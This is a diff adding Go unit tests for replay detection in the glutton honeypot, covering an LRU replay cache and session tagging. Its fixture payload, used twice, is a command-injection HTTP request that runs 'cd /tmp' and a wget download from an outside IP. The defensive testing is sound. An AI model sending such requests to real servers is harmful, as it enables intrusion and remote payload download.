@@ -0,0 +1,96 @@
+package protocols
+
+import (
+	"bufio"
+	"context"
+	"io"
+	"net"
+	"testing"
+	"time"
+
+	"github.com/mushorg/glutton/connection"
+	"github.com/mushorg/glutton/protocols/mocks"
+	"github.com/stretchr/testify/mock"
+	"github.com/stretchr/testify/require"
+)
+
+func TestReplayCache(t *testing.T) {
+	cache := newReplayCache(2, time.Minute)
+	_, count := cache.seen([]byte("payload one"))
+	require.Zero(t, count)
+	_, count = cache.seen([]byte("payload one"))
+	require.Equal(t, 1, count)
+
+	cache.seen([]byte("payload two"))
+	cache.seen([]byte("payload three"))
+	_, count = cache.seen([]byte("payload one"))
+	require.Zero(t, count, "least recently used entry should be evicted")
+}
+
+func TestMarkReplay(t *testing.T) {
+	l := &mocks.MockLogger{}
+	l.EXPECT().Info(mock.Anything, mock.Anything, mock.Anything).Return().Maybe()
+
+	cache := newReplayCache(16, time.Minute)
+	payload := []byte("GET /shell?cd+/tmp;wget+http://1.2.3.4/x HTTP/1.1\r\n\r\n")
+	for i := 0; i < 1000; i++ {
+		md := markReplay(cache, connection.Metadata{}, payload, l)
+		if i == 0 {
+			require.Empty(t, md.Tags)
+			continue
+		}
+		require.Equal(t, []string{"replayed_session"}, md.Tags)
+	}
+	md := markReplay(cache, connection.Metadata{}, []byte("short"), l)
+	require.Empty(t, md.Tags)
+}
+
+func TestDetectReplay(t *testing.T) {
+	l := &mocks.MockLogger{}
+	l.EXPECT().Info(mock.Anything, mock.Anything, mock.Anything).Return().Maybe()
+	h := &mocks.MockHoneypot{}
+	h.EXPECT().UpdateConnectionTimeout(mock.Anything, mock.Anything).Return(nil)
+
+	cache := newReplayCache(16, time.Minute)
+	var tags []string
+	handler := detectReplay(func(ctx context.Context, conn net.Conn, md connection.Metadata) error {
+		tags = md.Tags
+		conn.Write([]byte("banner\n"))
+		buf := make([]byte, 64)
+		n, err := conn.Read(buf)
+		conn.Write(buf[:n])
+		return err
+	}, cache, l, h)
+
+	// the client speaks first, the payload still reaches the handler
+	payload := []byte("GET /shell?cd+/tmp;wget+http://1.2.3.4/x HTTP/1.1\r\n\r\n")
+	session := func(clientFirst bool) string {
+		client, server := net.Pipe()
+		defer client.Close()
+		go func() {
+			defer server.Close()
+			handler(context.Background(), server, connection.Metadata{})
+		}()
+		if clientFirst {
+			client.Write(payload)
+		}
+		reader := bufio.NewReader(client)
+		_, err := reader.ReadString('\n')
+		require.NoError(t, err)
+		if !clientFirst {
+			client.Write(payload)
+		}
+		echo := make([]byte, len(payload))
+		_, err = io.ReadFull(reader, echo)
+		require.NoError(t, err)
+		return string(echo)
+	}
+	require.Equal(t, string(payload), session(true))
+	require.Empty(t, tags)
+	require.Equal(t, string(payload), session(true))
+	require.Equal(t, []string{"replayed_session"}, tags)
+
+	// nothing is sent before the banner, the deadline of the peek is reset
+	require.Equal(t, string(payload), session(false))
+	require.Empty(t, tags)
+}